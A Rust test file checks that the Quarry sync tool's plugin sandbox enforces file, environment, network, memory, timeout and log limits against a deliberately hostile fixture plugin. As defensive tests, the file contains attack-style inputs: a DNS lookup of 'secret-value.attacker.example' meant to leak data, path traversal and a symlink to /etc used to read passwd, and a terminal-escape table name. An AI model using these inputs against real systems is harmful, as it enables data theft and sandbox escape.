//! The sandbox holds plugins to their grants: files, environment, memory, time.

use crate::support::{
    FIRST, ITEMS as COLUMNS, JSON_FILES, Workdir, files, hostile_plugin, store_source,
};

/// A spec whose source is the hostile fixture doing `action`, into JSON files under ./out.
fn hostile(work: &Workdir, action: &str, permissions: &str) -> String {
    let spec = format!(
        r#"kind: source
spec:
  name: hostile
  registry: local
  path: {}
  tables: ['*']
  destinations: [out]
  spec: {{ {action} }}
  permissions: {{ {permissions} }}
{JSON_FILES}"#,
        hostile_plugin().display()
    );
    work.write("spec.yml", &spec).display().to_string()
}

/// The `result` the hostile source reported.
fn finding(work: &Workdir) -> String {
    let text = std::fs::read_to_string(work.path().join("out/hostile_findings.json"))
        .expect("findings written");
    let row: serde_json::Value = serde_json::from_str(text.trim()).expect("one JSON row");
    row["result"].as_str().expect("result").to_string()
}

#[test]
fn the_file_plugin_cannot_write_outside_its_granted_directory() {
    let work = Workdir::new();
    let outside = tempfile::tempdir().unwrap();
    for path in [
        "../escaped/{{TABLE}}.csv".to_string(),
        format!("{}/{{{{TABLE}}}}.csv", outside.path().display()),
    ] {
        let spec = work.write(
            "spec.yml",
            &format!(
                r#"kind: source
spec:
  name: test
  path: quarry/test
  tables: [test_rows]
  destinations: [out]
  spec: {{ num_rows: 10 }}
---
kind: destination
spec:
  name: out
  path: quarry/file
  write_mode: append
  spec: {{ path: '{path}', format: csv, no_rotate: true }}
  permissions: {{ files: {{ ./out: write }} }}
"#
            ),
        );
        let run = work.quarry(&["sync", spec.to_str().unwrap()]);
        // A missing grant is a configuration error: exit code 2.
        assert_eq!(run.code, 2, "{run:?}");
        // Refused when the plugin starts, before any row moves.
        assert!(
            run.stderr
                .contains("error: plugin `out` spec: cannot create"),
            "{run:?}"
        );
        assert!(!run.stdout.contains("Synced"), "{run:?}");
        assert!(run.stderr.contains("not permitted"), "{run:?}");
        assert!(
            run.stderr.contains("permissions: { files: {"),
            "the error says how to grant it: {run:?}"
        );
    }
    assert!(!work.path().parent().unwrap().join("escaped").exists());
    assert!(files(outside.path(), ".csv").is_empty());
}

#[test]
fn a_plugin_reads_only_the_environment_variables_it_was_granted() {
    let work = Workdir::new();
    let secret = [("QUARRY_TEST_SECRET", "hunter2")];
    let spec = hostile(&work, "action: env, name: QUARRY_TEST_SECRET", "");
    let run = work.quarry_with(&["sync", &spec], &secret);
    assert_eq!(run.code, 0, "{run:?}");
    assert_eq!(finding(&work), "<environment variable not found>");

    let spec = hostile(
        &work,
        "action: env, name: QUARRY_TEST_SECRET",
        "env: [QUARRY_TEST_SECRET]",
    );
    let run = work.quarry_with(&["sync", &spec], &secret);
    assert_eq!(run.code, 0, "{run:?}");
    assert_eq!(finding(&work), "hunter2");
}

#[test]
fn a_plugin_cannot_read_files_it_was_not_granted() {
    let work = Workdir::new();
    std::fs::write(work.path().join("secret.txt"), "top secret").unwrap();
    let spec = hostile(&work, "action: read, path: secret.txt", "");
    let run = work.quarry(&["sync", &spec]);
    assert_eq!(run.code, 0, "{run:?}");
    let result = finding(&work);
    assert!(
        result.starts_with('<') && !result.contains("top secret"),
        "{result}"
    );

    std::fs::create_dir(work.path().join("in")).unwrap();
    std::fs::write(work.path().join("in/data.txt"), "granted").unwrap();
    let spec = hostile(
        &work,
        "action: read, path: in/data.txt",
        "files: { ./in: read }",
    );
    let run = work.quarry(&["sync", &spec]);
    assert_eq!(run.code, 0, "{run:?}");
    assert_eq!(finding(&work), "granted");

    let spec = hostile(
        &work,
        "action: write, path: in/new.txt",
        "files: { ./in: read }",
    );
    let run = work.quarry(&["sync", &spec]);
    assert_eq!(run.code, 0, "{run:?}");
    assert!(
        finding(&work).starts_with('<'),
        "a read grant does not allow writing"
    );
    assert!(!work.path().join("in/new.txt").exists());
}

#[test]
fn a_plugin_over_its_memory_cap_fails_the_sync_naming_the_limit() {
    let work = Workdir::new();
    let spec = hostile(&work, "action: alloc, mib: 256", "memory: 64MiB");
    let run = work.quarry(&["sync", &spec]);
    assert_eq!(run.code, 3, "{run:?}");
    assert!(
        run.stderr
            .contains("plugin `hostile` failed in sync: it exceeded its memory limit of 64MiB"),
        "{run:?}"
    );
    assert!(
        run.stderr.contains("permissions: { memory: ... }"),
        "{run:?}"
    );

    let spec = hostile(&work, "action: alloc, mib: 16", "memory: 64MiB");
    let run = work.quarry(&["sync", &spec]);
    assert_eq!(run.code, 0, "within the cap it works: {run:?}");
    assert_eq!(finding(&work), "held 16 MiB");
}

#[test]
fn a_plugin_past_its_timeout_fails_the_sync_naming_the_limit() {
    let work = Workdir::new();
    let spec = hostile(&work, "action: spin", "timeout: 2s");
    let started = std::time::Instant::now();
    let run = work.quarry(&["sync", &spec]);
    assert_eq!(run.code, 3, "{run:?}");
    assert!(
        run.stderr
            .contains("plugin `hostile` failed in sync: it ran past its timeout of 2s"),
        "{run:?}"
    );
    assert!(
        started.elapsed().as_secs() < 60,
        "the spinning plugin was stopped"
    );
}

#[test]
fn a_crashing_plugin_fails_the_sync_with_its_last_words() {
    let work = Workdir::new();
    let spec = hostile(&work, "action: panic", "");
    let run = work.quarry(&["sync", &spec]);
    assert_eq!(run.code, 3, "{run:?}");
    assert!(
        run.stderr
            .contains("plugin `hostile` failed in sync: it crashed"),
        "{run:?}"
    );
    assert!(
        run.stderr.contains("hostile plugin panicked on purpose"),
        "{run:?}"
    );
    // Reported once, counted once, and not as a trap of a trap.
    assert_eq!(
        run.stderr.matches("error: plugin `hostile` failed").count(),
        1,
        "{run:?}"
    );
    assert!(
        run.stdout.contains(", 1 errors") || run.stdout.contains(", 1 error"),
        "{run:?}"
    );
    assert!(!run.stderr.contains("wasm trap: wasm trap"), "{run:?}");
}

/// One source into a good destination and a failing one.
fn fan_out(work: &Workdir, action: &str) -> String {
    let spec = format!(
        r#"kind: source
spec:
  name: test
  path: quarry/test
  tables: [test_rows]
  destinations: [good, bad]
  spec: {{ num_rows: 50000, batch_size: 5000 }}
---
kind: destination
spec:
  name: good
  path: quarry/file
  write_mode: append
  spec: {{ path: 'out/{{{{TABLE}}}}.{{{{FORMAT}}}}', format: json, no_rotate: true }}
  permissions: {{ files: {{ ./out: write }} }}
---
kind: destination
spec:
  name: bad
  registry: local
  path: {}
  write_mode: append
  batch_size: 5000
  spec: {{ action: {action}, rows: 10000 }}
"#,
        hostile_plugin().display()
    );
    work.write("spec.yml", &spec).display().to_string()
}

fn good_rows(work: &Workdir) -> Vec<i64> {
    let text = std::fs::read_to_string(work.path().join("out/test_rows.json"))
        .expect("good destination's file");
    let row = |line: &str| {
        serde_json::from_str::<serde_json::Value>(line).expect("a JSON row")["id"].as_i64()
    };
    text.lines()
        .map(|line| row(line).expect("an integer id"))
        .collect()
}

#[test]
fn a_failing_destination_does_not_cost_the_other_its_rows() {
    let work = Workdir::new();
    let spec = fan_out(&work, "fail_writes");
    let run = work.quarry(&["sync", &spec]);
    assert_eq!(
        run.code, 1,
        "an error the plugin returned: the sync finished with errors: {run:?}"
    );
    assert!(
        run.stderr
            .contains("plugin `bad` failed in write of table `test_rows`: refusing rows of test_rows after 10000 rows"),
        "{run:?}"
    );
    assert!(
        run.stdout
            .contains("Sync finished with errors: test → good, bad: 50000 rows"),
        "{run:?}"
    );
    let ids = good_rows(&work);
    assert_eq!(ids.len(), 50_000);
    assert_eq!(ids.iter().sum::<i64>(), 49_999 * 50_000 / 2);

    let spec = fan_out(&work, "crash_writes");
    let run = work.quarry(&["sync", &spec]);
    assert_eq!(run.code, 3, "a crash: {run:?}");
    assert!(
        run.stderr
            .contains("plugin `bad` failed in write of table `test_rows`: it crashed"),
        "{run:?}"
    );
    assert!(
        run.stderr
            .contains("hostile destination crashed on purpose"),
        "{run:?}"
    );
    assert_eq!(good_rows(&work).len(), 50_000);

    // Issue 16, hole 8: a destination stuck in a write is stopped; the other gets every row.
    let spec = fan_out(&work, "spin_writes");
    let run = work.quarry_with(&["sync", &spec], &[("QUARRY_CALL_TIMEOUT", "2s")]);
    assert_eq!(
        run.code, 3,
        "a stuck destination is a failure of the run: {run:?}"
    );
    assert!(
        run.stderr.contains(
            "plugin `bad` failed in write of table `test_rows`: one write call ran past 2s: the plugin seems stuck"
        ),
        "{run:?}"
    );
    assert_eq!(good_rows(&work).len(), 50_000);
}

#[test]
fn a_plugin_connects_only_to_the_hosts_it_was_granted() {
    // PostgreSQL listens on 127.0.0.1:5432 on every machine this suite runs on.
    let work = Workdir::new();
    let cases = [
        ("127.0.0.1:5432", "", false),
        ("127.0.0.1:5432", "network: ['127.0.0.1:5432']", true),
        ("localhost:5432", "network: ['localhost:5432']", true),
        ("localhost:5432", "network: [localhost]", true),
        ("127.0.0.1:5432", "network: ['127.0.0.1:5433']", false),
        ("127.0.0.1:5432", "network: ['*.example.com']", false),
        // Issue 16, hole 11: a name no grant names is not even looked up.
        ("localhost:5432", "network: ['127.0.0.1:5432']", false),
    ];
    for (target, permissions, allowed) in cases {
        let spec = hostile(
            &work,
            &format!("action: connect, path: '{target}'"),
            permissions,
        );
        let run = work.quarry(&["sync", &spec]);
        assert_eq!(run.code, 0, "{run:?}");
        let result = finding(&work);
        assert_eq!(
            result == "connected",
            allowed,
            "connect to {target} with `{permissions}`: {result}"
        );
    }
}

/// Issue 16, hole 11: a lookup is a message to whoever runs the zone, so a plugin looks up only
/// the names its grants name; any other name is refused before a query leaves the machine.
#[test]
fn a_plugin_looks_up_only_granted_names() {
    let work = Workdir::new();
    let spec = hostile(
        &work,
        "action: connect, path: 'secret-value.attacker.example:80'",
        "network: ['127.0.0.1:5432']",
    );
    let run = work.quarry(&["sync", &spec]);
    assert_eq!(run.code, 0, "{run:?}");
    assert!(finding(&work).starts_with('<'), "{run:?}");
    assert!(
        run.stderr.contains(
            "looking up `secret-value.attacker.example` was denied: plugin `hostile` has no network grant naming it"
        ),
        "{run:?}"
    );
}

/// The compile cache holds native code: no grant may reach it, for reading or writing, so a
/// plugin can neither plant an entry nor read the key that authenticates them.
#[test]
fn no_grant_may_reach_the_compile_cache() {
    let w = Workdir::new();
    let cache = w.path().join("state/cache");
    std::fs::create_dir_all(&cache).expect("mkdir");
    for access in ["read", "write"] {
        w.write(
            "spec.yml",
            &format!(
                r#"kind: source
spec:
  name: test
  path: quarry/test
  tables: [test_rows]
  destinations: [out]
  permissions: {{ files: {{ ./state: {access} }} }}
---
kind: destination
spec:
  name: out
  path: quarry/test
"#
            ),
        );
        let run = w.quarry_with(
            &["validate", "spec.yml"],
            &[("QUARRY_CACHE_DIR", cache.to_str().expect("path"))],
        );
        assert_eq!(run.code, 2, "{access}: {run:?}");
        assert!(
            run.stderr
                .contains("cannot grant directory `state`: it contains Quarry's compile cache")
                && run.stderr.contains("QUARRY_CACHE_DIR"),
            "{access}: {run:?}"
        );
    }
}

/// A plugin's log records are one escaped line each, capped, and stop at a budget: it cannot
/// forge Quarry's lines nor flood the terminal.
#[test]
fn log_records_cannot_forge_lines_or_flood() {
    let work = Workdir::new();
    let spec = hostile(&work, "action: log, mib: 40", "");
    let run = work.quarry(&["sync", &spec, "--summary-location", "summary.jsonl"]);
    assert_eq!(run.code, 0, "{run:?}");
    assert_eq!(finding(&work), "logged 80 MiB");
    // Its two WARN records are its warnings in the summary, as CloudQuery counts them.
    let line: serde_json::Value = serde_json::from_str(
        std::fs::read_to_string(work.path().join("summary.jsonl"))
            .expect("summary")
            .trim_end(),
    )
    .expect("a JSON line");
    assert_eq!(line["source_warnings"], 2, "{line}");
    assert_eq!(line["destination_warnings"], 0, "{line}");
    assert!(run.stdout.contains("0 errors, 2 warnings"), "{run:?}");
    assert!(
        !run.stderr
            .lines()
            .any(|l| l.starts_with("2026-01-01T00:00:00.000000Z ERROR forged")),
        "a forged line: {}",
        &run.stderr[..run.stderr.len().min(2000)]
    );
    assert!(run.stderr.contains(r"harmless\n2026-01-01"), "escaped");
    assert!(run.stderr.contains("more bytes cut"), "capped");
    assert!(
        run.stderr
            .contains("the plugin has logged 64 MiB; its further log records are dropped"),
        "a budget"
    );
    assert!(
        run.stderr.len() < 2 << 20,
        "{} bytes of log",
        run.stderr.len()
    );
}

/// Table names are the plugin's to choose, and the host prints them, logs them and names files by
/// them: a name with a terminal escape or a path in it is refused when it arrives.
#[test]
fn table_names_with_control_characters_or_paths_are_refused() {
    for (name, shown) in [
        (r#""evil\e[2J""#, r#""evil\u{1b}[2J""#),
        ("'../escape'", r#""../escape""#),
    ] {
        let w = Workdir::new();
        let spec = store_source(COLUMNS, FIRST, "out")
            .replace("- name: items", &format!("- name: {name}"))
            + JSON_FILES;
        w.write("spec.yml", &spec);
        for command in ["sync", "tables"] {
            let run = w.quarry(&[command, "spec.yml"]);
            assert_ne!(run.code, 0, "{command} {name}: {run:?}");
            assert!(
                run.stderr
                    .contains(&format!("the table name {shown} is refused")),
                "{command} {name}: {run:?}"
            );
            assert!(
                !run.stderr.contains('\u{1b}'),
                "no raw escape on the terminal: {run:?}"
            );
        }
        assert!(
            !w.path().join("escape.md").exists()
                && !w.path().join("out").join("escape.json").exists()
        );
    }
}

/// Issue 16, hole 6: a link a plugin planted in a directory it could write never widens a later
/// grant, for reading or writing.
#[test]
fn a_link_a_plugin_planted_never_becomes_a_grant() {
    let work = Workdir::new();
    let spec = hostile(
        &work,
        "action: symlink, path: plant/x, name: ../../../../../../../../etc",
        "files: { ./plant: write }",
    );
    let run = work.quarry(&["sync", &spec]);
    assert_eq!(run.code, 0, "{run:?}");
    let planted = finding(&work);
    assert_eq!(
        planted, "linked",
        "the sandbox lets a plugin make a relative link"
    );
    assert!(std::fs::read_link(work.path().join("plant/x")).is_ok());
    for access in ["read", "write"] {
        let spec = hostile(
            &work,
            "action: read, path: plant/x/passwd",
            &format!("files: {{ ./plant/x: {access} }}"),
        );
        let run = work.quarry(&["sync", &spec]);
        assert_eq!(run.code, 2, "{access}: {run:?}");
        assert!(
            run.stderr
                .contains("plant/x` is a symbolic link (to `../../../../../../../../etc`)"),
            "{run:?}"
        );
    }
}

/// `./community-plugin`: a native executable that leaves `it-ran` beside itself if started.
fn native_that_marks_when_run(work: &Workdir) {
    let script = work.write(
        "community-plugin",
        "#!/bin/sh\ntouch \"$(dirname \"$0\")/it-ran\"\n",
    );
    crate::support::make_executable(&script);
}

/// Issue 16, hole 2: someone else's native executable is started by a sync only when its spec
/// says `native: true`; without it the sync is refused before anything starts, naming the line
/// to add. `native: true` on a component is refused too (it would read as "unsandboxed").
#[test]
fn a_sync_runs_a_native_executable_only_with_native_true() {
    let work = Workdir::new();
    native_that_marks_when_run(&work);
    let spec = |native: &str| {
        format!(
            "kind: source\nspec:\n  name: community\n  registry: local\n  path: ./community-plugin\n{native}  tables: ['*']\n  destinations: [out]\n---\nkind: destination\nspec:\n  name: out\n  path: quarry/test\n"
        )
    };
    work.write("spec.yml", &spec(""));
    let run = work.quarry(&["sync", "spec.yml"]);
    assert_eq!(run.code, 2, "{run:?}");
    assert!(
        run.stderr.contains("spec.yml:3:")
            && run
                .stderr
                .contains("`./community-plugin` is a native executable")
            && run.stderr.contains("add `native: true`"),
        "{run:?}"
    );
    assert!(
        !work.path().join("it-ran").exists(),
        "the sync started the executable without consent"
    );
    work.write("spec.yml", &spec("  native: true\n"));
    let run = work.quarry(&["sync", "spec.yml"]);
    // The script is no plugin: it marks, exits, and the sync says it never listened.
    assert_eq!(run.code, 3, "{run:?}");
    assert!(work.path().join("it-ran").exists(), "{run:?}");

    let component = work.write(
        "components.yml",
        "kind: source\nspec:\n  name: t\n  path: quarry/test\n  native: true\n  tables: ['*']\n  destinations: [out]\n---\nkind: destination\nspec:\n  name: out\n  path: quarry/test\n",
    );
    let run = work.quarry(&["sync", component.to_str().unwrap()]);
    assert_eq!(run.code, 2, "{run:?}");
    assert!(
        run.stderr
            .contains("`native: true`, but `quarry/test` is a WebAssembly component"),
        "{run:?}"
    );
}

/// Issue 16, hole 2: `plugin inspect` looks at someone else's native executable without
/// starting it.
#[test]
fn inspecting_a_native_plugin_does_not_run_it() {
    let work = Workdir::new();
    native_that_marks_when_run(&work);
    let run = work.quarry(&["plugin", "inspect", "./community-plugin"]);
    assert_eq!(run.code, 0, "{run:?}");
    assert!(run.stdout.contains("native executable"), "{run:?}");
    assert!(run.stdout.contains("not run"), "{run:?}");
    assert!(
        !work.path().join("it-ran").exists(),
        "inspect started the executable"
    );
}

/// Issue 16, hole 3: Arrow data that makes arrow-ipc's decoder panic, sent through the raw
/// contract, is that plugin's error; the host stays up and the next source syncs.
#[test]
fn malformed_arrow_from_a_plugin_fails_only_that_plugin() {
    let work = Workdir::new();
    let spec = hostile_then_test(&work, "action: malformed_ipc", "");
    let run = work.quarry(&["sync", &spec]);
    assert_ne!(run.code, 101, "the host panicked: {run:?}");
    assert_eq!(run.code, 1, "{run:?}");
    assert!(run.stderr.contains("malformed Arrow IPC stream"), "{run:?}");
    assert_eq!(
        test_rows_written(&work),
        3,
        "the other source synced: {run:?}"
    );
}

/// The hostile source doing `action` with `permissions`, then the `test` source's 3 rows, both
/// into JSON files: whatever the first does, the second must still write its rows.
fn hostile_then_test(work: &Workdir, action: &str, permissions: &str) -> String {
    let spec = format!(
        r#"kind: source
spec:
  name: hostile
  registry: local
  path: {}
  tables: ['*']
  destinations: [out]
  spec: {{ {action} }}
  permissions: {{ {permissions} }}
---
kind: source
spec:
  name: test
  path: quarry/test
  tables: [test_rows]
  destinations: [out]
  spec: {{ num_rows: 3 }}
{JSON_FILES}"#,
        hostile_plugin().display()
    );
    work.write("spec.yml", &spec).display().to_string()
}

fn test_rows_written(work: &Workdir) -> usize {
    std::fs::read_to_string(work.path().join("out/test_rows.json"))
        .unwrap_or_default()
        .lines()
        .count()
}

/// Issue 16, hole 7: a plugin that hoards file handles is stopped at its limit, naming it; the
/// next source of the sync still writes its files.
#[test]
fn a_plugin_cannot_exhaust_the_hosts_file_descriptors() {
    let work = Workdir::new();
    std::fs::create_dir(work.path().join("in")).unwrap();
    std::fs::write(work.path().join("in/data.txt"), "x").unwrap();
    let spec = hostile_then_test(
        &work,
        "action: hold_files, path: in/data.txt, rows: 30000",
        "files: { ./in: read }",
    );
    let run = work.quarry(&["sync", &spec]);
    assert_eq!(run.code, 3, "{run:?}");
    assert!(
        run.stderr
            .contains("plugin `hostile` failed in sync: it held more than 4096 handles at once"),
        "{run:?}"
    );
    assert_eq!(
        test_rows_written(&work),
        3,
        "the other source synced: {run:?}"
    );
}

/// `quarry init` asks plugins for their schemas; someone else's native executable is not
/// started for that unless `--run-native`.
#[test]
fn init_does_not_run_a_native_plugin_unasked() {
    let work = Workdir::new();
    native_that_marks_when_run(&work);
    let run = work.quarry(&["init", "--source", "./community-plugin", "--spec-path", "-"]);
    assert_eq!(run.code, 2, "{run:?}");
    assert!(
        run.stderr
            .contains("is a native executable: it would run outside the sandbox"),
        "{run:?}"
    );
    assert!(run.stderr.contains("--run-native"), "{run:?}");
    assert!(
        !work.path().join("it-ran").exists(),
        "init started the executable"
    );
}
